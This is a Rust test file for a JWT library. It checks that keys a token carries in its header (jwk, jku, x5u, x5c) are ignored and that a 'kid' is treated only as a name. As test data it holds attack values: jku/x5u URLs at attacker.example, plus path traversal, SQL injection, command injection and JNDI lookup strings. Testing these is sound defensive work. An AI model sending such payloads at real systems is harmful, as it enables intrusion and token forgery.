//! A key comes from its registration, never from the token (RFC 8725 section 3.10).

use authguard_token::{Algorithm, MAX_KEY_ID_BYTES, Token, TokenError};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::signers::{MAX, PAYLOAD, Signer, all, of};

/// The members with which a token would bring its key along.
pub fn brought(signer: &Signer) -> Vec<(&'static str, Value)> {
    let published = |form: &str| {
        let found = signer.published.iter().find(|(name, _)| *name == form);
        found.map(|(_, bytes)| bytes.clone()).unwrap_or_default()
    };
    let jwk: Value = serde_json::from_slice(&published("JWK")).unwrap();
    vec![
        ("jwk", jwk.clone()),
        ("jwk", json!({"keys": [jwk]})),
        ("jwk", json!(jwk.to_string())),
        ("jku", json!("https://attacker.example/jwks.json")),
        ("jku", json!("file:///etc/passwd")),
        ("x5u", json!("https://attacker.example/cert.pem")),
        ("x5c", json!([STANDARD.encode(published("SPKI, DER"))])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
    ]
}

#[test]
fn a_key_in_the_header_is_never_used() {
    // Ed25519 and P-256, as an RSA key alone is longer than a header may be with its other forms.
    for algorithm in [Algorithm::EdDSA, Algorithm::ES256] {
        let (ours, attacker) = (of(algorithm), Signer::new(algorithm));
        for (name, value) in brought(&attacker) {
            let mut header = json!({"alg": algorithm.name(), "typ": "JWT"});
            header[name] = value;
            let forged = attacker.signed(header.to_string(), PAYLOAD);
            assert_eq!(
                ours.judge(&forged).err(),
                Some(TokenError::Signature),
                "{header}"
            );
            // The member is ignored, not understood: our own signature counts.
            let honest = ours.signed(header.to_string(), PAYLOAD);
            assert!(ours.judge(&honest).is_ok(), "{header}");
        }
    }
}

#[test]
fn a_secret_in_the_header_is_never_used() {
    for ours in all() {
        let attacker = Signer::new(Algorithm::HS256);
        let header = json!({"alg": ours.algorithm.name(), "jwk": {"kty": "oct", "k": "AAAA"}});
        let forged = attacker.signed(header.to_string(), PAYLOAD);
        assert_eq!(ours.judge(&forged).err(), Some(TokenError::Signature));
    }
}

const KEY_IDS: [&str; 14] = [
    "../../../../../../dev/null",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "file:///etc/passwd",
    "https://attacker.example/key",
    "' or 1=1 --",
    "' union select 'secret' --",
    "k-1'; drop table authguard.key; --",
    "$1",
    "%s%n",
    "|id",
    "${jndi:ldap://attacker.example}",
    "\u{202e}k-1",
    "",
];

/// `kid` is a name to look up, so it comes out as it was sent and changes nothing here.
#[test]
fn a_key_id_is_a_name_and_nothing_else() {
    for signer in all() {
        for key_id in KEY_IDS {
            let header = json!({"alg": signer.algorithm.name(), "kid": key_id}).to_string();
            let text = signer.signed(&header, PAYLOAD);
            let token = Token::parse(&text, MAX).unwrap();
            assert_eq!(token.key_id(), Some(key_id));
            assert!(signer.judge(&text).is_ok(), "{key_id}");
            let unsigned = text.rsplit_once('.').unwrap().0;
            let refused = signer.judge(&format!("{unsigned}.")).err();
            assert_eq!(refused, Some(TokenError::Signature), "{key_id}");
        }
    }
}

#[test]
fn a_key_id_is_one_string_of_bounded_length() {
    let signer = of(Algorithm::HS256);
    for bad in ["null", "0", "[\"k-1\"]", "{\"$ne\":\"\"}", "true"] {
        let header = format!(r#"{{"alg":"HS256","kid":{bad}}}"#);
        let refused = signer.judge(&signer.signed(header, PAYLOAD)).err();
        assert_eq!(refused, Some(TokenError::HeaderText("kid")), "{bad}");
    }
    for (length, expected) in [
        (MAX_KEY_ID_BYTES, None),
        (MAX_KEY_ID_BYTES + 1, Some(TokenError::KeyIdTooLong)),
    ] {
        // Two bytes a letter: it is bytes that are counted.
        let key_id = format!("{}{}", "é".repeat(length / 2), "k".repeat(length % 2));
        let header = json!({"alg": "HS256", "kid": key_id}).to_string();
        assert_eq!(
            signer.judge(&signer.signed(header, PAYLOAD)).err(),
            expected,
            "{length}"
        );
    }
}
